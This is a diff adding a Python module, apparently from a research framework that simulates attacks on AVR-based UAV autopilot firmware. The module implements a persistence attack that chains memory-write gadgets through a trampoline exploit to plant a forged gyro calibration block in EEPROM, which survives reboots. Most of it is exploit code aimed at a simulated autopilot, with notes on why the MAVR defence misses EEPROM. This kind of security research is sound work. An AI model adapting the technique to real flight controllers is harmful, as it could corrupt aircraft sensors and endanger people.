@@ -1,0 +1,103 @@
+"""Attack V4 — persistence through the EEPROM (extension).
+
+The paper's attacks change SRAM state, which a reset (or a MAVR reflash)
+wipes.  This extension shows the same two gadgets reach *persistent*
+state: because the EEPROM controller registers (EECR/EEDR/EEAR) live in
+the data space like everything else, ``write_mem_gadget``'s plain stores
+can program the EEPROM.
+
+The chain stages a value+address pair into EEDR/EEAR, then every
+subsequent 3-byte store at EECR both strobes the write-enable bit
+(committing the previous byte) and stages the next pair — one extra
+write per persisted byte.  Delivered through the V3 trampoline, the
+attacker plants a valid configuration block (magic + 6-byte gyro
+calibration) that ``config_load`` restores on *every* boot.
+
+Defensive takeaway (discussed in EXPERIMENTS.md): MAVR reflashes the
+program flash, not the EEPROM — randomization prevents the exploit from
+*running* on a protected board, but on an unprotected board the damage
+outlives any number of reboots.
+"""
+
+from __future__ import annotations
+
+from typing import List, Optional, Sequence, Tuple
+
+from ..avr.iospace import EECR_DATA, EEDR_DATA, EEPE_BIT
+from ..binfmt.image import FirmwareImage
+from ..firmware.hwmap import CONFIG_EEPROM_ADDR, CONFIG_MAGIC
+from ..uav.autopilot import Autopilot
+from ..uav.groundstation import MaliciousGroundStation
+from .chain import FILL_BYTE, Write3
+from .results import AttackOutcome
+from .runtime_facts import RuntimeFacts, variable_address
+from .v3_trampoline import TrampolineAttack
+
+
+def eeprom_program_writes(pairs: Sequence[Tuple[int, int]]) -> List[Write3]:
+    """Write3 sequence that programs ``(address, value)`` pairs.
+
+    Each :class:`Write3` covers three consecutive data bytes, so:
+
+    * the first store targets EEDR (0x40): ``[value0, addr0_lo, addr0_hi]``
+      — staging without strobing;
+    * every following store targets EECR (0x3F):
+      ``[EEPE, value_i, addr_i_lo]`` — the EECR byte commits the staged
+      pair, and the two side-effect bytes stage the next one.
+
+    Addresses must stay below 256 (EEARH fixed at 0 after staging #0),
+    which covers the configuration area comfortably.
+    """
+    if not pairs:
+        return []
+    for address, _value in pairs:
+        if not 0 <= address < 256:
+            raise ValueError(f"EEPROM address out of byte range: {address}")
+    first_addr, first_value = pairs[0][0], pairs[0][1]
+    writes = [Write3(EEDR_DATA, bytes([first_value, first_addr, 0x00]))]
+    strobe = 1 << EEPE_BIT
+    for next_addr, next_value in list(pairs[1:]) + [(0, 0)]:
+        writes.append(Write3(EECR_DATA, bytes([strobe, next_value, next_addr])))
+    # the trailing strobe committed the last real pair and staged (0,0);
+    # no extra strobe follows, so EEPROM cell 0 is never touched
+    return writes
+
+
+def config_block_pairs(calibration: bytes) -> List[Tuple[int, int]]:
+    """(address, value) pairs for a valid firmware configuration block."""
+    if len(calibration) != 6:
+        raise ValueError("calibration must be exactly 6 bytes")
+    pairs = [(CONFIG_EEPROM_ADDR, CONFIG_MAGIC)]
+    for index, value in enumerate(calibration):
+        pairs.append((CONFIG_EEPROM_ADDR + 1 + index, value))
+    return pairs
+
+
+class PersistenceAttack:
+    """Plant a malicious EEPROM configuration via the trampoline."""
+
+    def __init__(self, image: FirmwareImage, facts: Optional[RuntimeFacts] = None) -> None:
+        self.image = image
+        self.trampoline = TrampolineAttack(image, facts)
+
+    def execute(
+        self,
+        autopilot: Autopilot,
+        gcs: Optional[MaliciousGroundStation] = None,
+        calibration: bytes = b"\x40\x00\x80\x00\xc0\x00",
+        observe_ticks: int = 30,
+    ) -> AttackOutcome:
+        writes = eeprom_program_writes(config_block_pairs(calibration))
+        outcome = self.trampoline.execute(
+            autopilot, gcs=gcs, payload=writes, observe_ticks=observe_ticks,
+        )
+        # effects on SRAM variables are not the goal here; report the
+        # EEPROM block instead
+        planted = bytes(
+            autopilot.cpu.eeprom.read(CONFIG_EEPROM_ADDR + offset)
+            for offset in range(7)
+        )
+        expected = bytes([CONFIG_MAGIC]) + calibration
+        if planted == expected:
+            outcome.effects["eeprom_config"] = int.from_bytes(planted, "little")
+        return outcome
